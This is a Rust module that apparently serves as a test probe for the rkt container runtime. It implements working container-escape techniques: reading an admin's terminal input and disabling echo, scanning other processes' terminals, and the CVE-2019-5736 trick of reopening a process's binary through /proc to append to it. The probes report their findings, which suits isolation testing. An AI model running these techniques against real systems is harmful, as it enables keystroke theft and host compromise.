//! Attacks on the terminal rkt runs on and on the processes that enter a pod (issue 14):
//!
//! - `steal-input FD`: reopens `/proc/self/fd/FD` read-write, as an app that was handed the
//!   admin's terminal as its stdout could, and reads what is waiting there (what the admin
//!   typed) and turns the terminal's echo off;
//! - `hunt GO DONE [PID]`: once file GO exists, reopens every terminal other processes hold
//!   (`/proc/P/fd/N`, only PID's when given), reads from it, and tries to open each process's
//!   `/proc/P/exe` for writing; then creates DONE (GO/DONE `-`: none);
//! - `exe-append PID MARK`: the CVE-2019-5736 pattern: holds `/proc/PID/exe` open (O_PATH)
//!   while PID runs, and once PID has exited (so the file is no longer busy) reopens it for
//!   writing and appends MARK;
//! - `exec PATH [ARGS...]`: execs PATH (a script whose interpreter is `/proc/self/exe` runs
//!   the caller's own binary again).
//!
//! One line per finding: `steal ...`, `hunt ...`, `exe ...`, `exe-append=...`.

use std::io::{self, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;
use std::time::Instant;

use crate::{syscall, SYS_IOCTL, WAIT};

const SYS_OPENAT: usize = 257;
const AT_FDCWD: isize = -100;
const O_RDWR: usize = 0o2;
const O_WRONLY: usize = 0o1;
const O_NOCTTY: usize = 0o400;
const O_NONBLOCK: usize = 0o4000;
const O_APPEND: usize = 0o2000;
const O_PATH: usize = 0o10000000;
const O_CLOEXEC: usize = 0o2000000;
const TCGETS: usize = 0x5401;
const TCSETS: usize = 0x5402;
/// `c_lflag`'s ECHO bit (asm-generic/termbits.h).
const ECHO: u32 = 0o10;

/// `openat(AT_FDCWD, path, flags)`: the fd, or the errno.
fn open(path: &str, flags: usize) -> Result<OwnedFd, i32> {
    let c = std::ffi::CString::new(path).map_err(|_| 22)?;
    // SAFETY: `c` is a NUL-terminated path that outlives the call.
    let rc = unsafe {
        crate::syscall4(
            SYS_OPENAT,
            AT_FDCWD as usize,
            c.as_ptr() as usize,
            flags | O_CLOEXEC,
            0,
        )
    };
    if rc < 0 {
        return Err(-rc as i32);
    }
    // SAFETY: the kernel just returned this fd; nothing else owns it.
    Ok(unsafe { OwnedFd::from_raw_fd(rc as i32) })
}

/// `struct termios` as the kernel's TCGETS fills it: four flag words, c_line, 19 c_cc.
fn termios(fd: &OwnedFd) -> Option<[u32; 9]> {
    let mut t = [0u32; 9];
    // SAFETY: TCGETS writes 36 bytes into `t`, which has 36.
    let rc = unsafe {
        syscall(
            SYS_IOCTL,
            fd.as_raw_fd() as usize,
            TCGETS,
            t.as_mut_ptr() as usize,
        )
    };
    (rc == 0).then_some(t)
}

/// The device of this pod's devpts: a terminal on another is a host terminal.
fn own_devpts() -> Option<u64> {
    std::fs::metadata("/dev/pts/ptmx").map(|m| m.dev()).ok()
}

fn is_own_devpts(fd: &OwnedFd) -> bool {
    let own = own_devpts();
    let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
    std::fs::metadata(path).is_ok_and(|m| Some(m.dev()) == own)
}

/// What is waiting on a terminal (non-blocking read), printable.
fn read_waiting(fd: &OwnedFd) -> String {
    let mut buf = [0u8; 256];
    match read_fd(fd, &mut buf) {
        Ok(n) => String::from_utf8_lossy(&buf[..n])
            .escape_default()
            .to_string(),
        Err(e) => format!("errno {e}"),
    }
}

fn read_fd(fd: &OwnedFd, buf: &mut [u8]) -> Result<usize, i32> {
    const SYS_READ: usize = 0;
    // SAFETY: read(2) into `buf`, which lives across the call.
    let rc = unsafe {
        syscall(
            SYS_READ,
            fd.as_raw_fd() as usize,
            buf.as_mut_ptr() as usize,
            buf.len(),
        )
    };
    if rc < 0 {
        Err(-rc as i32)
    } else {
        Ok(rc as usize)
    }
}

/// `steal-input FD`.
pub fn steal_input(out: &mut impl Write, fd: &str) -> io::Result<u8> {
    let path = format!("/proc/self/fd/{fd}");
    let f = match open(&path, O_RDWR | O_NOCTTY | O_NONBLOCK) {
        Ok(f) => f,
        Err(e) => {
            writeln!(out, "steal fd={fd} open=errno {e}")?;
            return Ok(0);
        }
    };
    let Some(mut t) = termios(&f) else {
        writeln!(out, "steal fd={fd} tty=false")?;
        return Ok(0);
    };
    let read = read_waiting(&f);
    t[3] &= !ECHO;
    // SAFETY: TCSETS reads 36 bytes from `t`.
    let rc = unsafe {
        syscall(
            SYS_IOCTL,
            f.as_raw_fd() as usize,
            TCSETS,
            t.as_ptr() as usize,
        )
    };
    let echo_off = if rc == 0 {
        "ok".to_string()
    } else {
        format!("errno {}", -rc)
    };
    writeln!(
        out,
        "steal fd={fd} tty=true own_devpts={} read={read} echo_off={echo_off}",
        is_own_devpts(&f)
    )?;
    Ok(0)
}

/// Waits until `path` exists (`-`: at once).
fn wait_for(path: &str) -> io::Result<()> {
    let start = Instant::now();
    while path != "-" && std::fs::metadata(path).is_err() {
        if start.elapsed() > WAIT {
            return Err(io::Error::new(io::ErrorKind::TimedOut, path.to_string()));
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    Ok(())
}

/// `hunt GO DONE [PID]`.
pub fn hunt(out: &mut impl Write, go: &str, done: &str, only: Option<&str>) -> io::Result<u8> {
    wait_for(go)?;
    let me = std::process::id().to_string();
    let pids: Vec<String> = match only {
        Some(p) => vec![p.to_string()],
        None => std::fs::read_dir("/proc")?
            .filter_map(|e| e.ok())
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.bytes().all(|b| b.is_ascii_digit()) && *n != me)
            .collect(),
    };
    let (mut ttys, mut foreign) = (0, 0);
    for pid in &pids {
        let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
            writeln!(out, "hunt pid={pid} fds=unreadable")?;
            continue;
        };
        for fd in fds.filter_map(|e| e.ok()) {
            let name = fd.file_name().to_string_lossy().into_owned();
            let path = format!("/proc/{pid}/fd/{name}");
            let Ok(f) = open(&path, O_RDWR | O_NOCTTY | O_NONBLOCK) else {
                continue;
            };
            if termios(&f).is_none() {
                continue;
            }
            ttys += 1;
            let own = is_own_devpts(&f);
            foreign += usize::from(!own);
            writeln!(
                out,
                "hunt pid={pid} fd={name} own_devpts={own} read={}",
                read_waiting(&f)
            )?;
        }
        let exe = format!("/proc/{pid}/exe");
        let target = std::fs::read_link(&exe).unwrap_or_default();
        match open(&exe, O_WRONLY | O_APPEND) {
            Ok(_) => writeln!(out, "exe pid={pid} {} write=ok", target.display())?,
            Err(e) => writeln!(out, "exe pid={pid} {} write=errno {e}", target.display())?,
        }
    }
    writeln!(out, "hunt ttys={ttys} foreign={foreign}")?;
    if done != "-" {
        std::fs::write(done, "done")?;
    }
    Ok(0)
}

/// `exe-append PID MARK`.
pub fn exe_append(out: &mut impl Write, pid: &str, mark: &str) -> io::Result<u8> {
    let held = match open(&format!("/proc/{pid}/exe"), O_PATH) {
        Ok(f) => f,
        Err(e) => {
            writeln!(out, "exe-append open=errno {e}")?;
            return Ok(0);
        }
    };
    writeln!(out, "exe-append opened")?;
    out.flush()?;
    // Until PID is gone or a zombie: its file is no longer being executed then.
    let start = Instant::now();
    loop {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let state = stat.rsplit_once(") ").and_then(|(_, r)| r.chars().next());
        if matches!(state, None | Some('Z')) {
            break;
        }
        if start.elapsed() > WAIT {
            return Err(io::Error::new(
                io::ErrorKind::TimedOut,
                "the target runs on",
            ));
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let reopened = format!("/proc/self/fd/{}", held.as_raw_fd());
    let result = open(&reopened, O_WRONLY | O_APPEND).and_then(|f| {
        let mut file = std::fs::File::from(f);
        file.write_all(mark.as_bytes())
            .map_err(|e| e.raw_os_error().unwrap_or(5))
    });
    match result {
        Ok(()) => writeln!(out, "exe-append=ok")?,
        Err(e) => writeln!(out, "exe-append=errno {e}")?,
    }
    Ok(0)
}

/// `exec PATH [ARGS...]`.
pub fn exec(args: &[String]) -> io::Result<u8> {
    use std::os::unix::process::CommandExt;
    let (path, rest) = args
        .split_first()
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "missing path"))?;
    Err(std::process::Command::new(path).args(rest).exec())
}
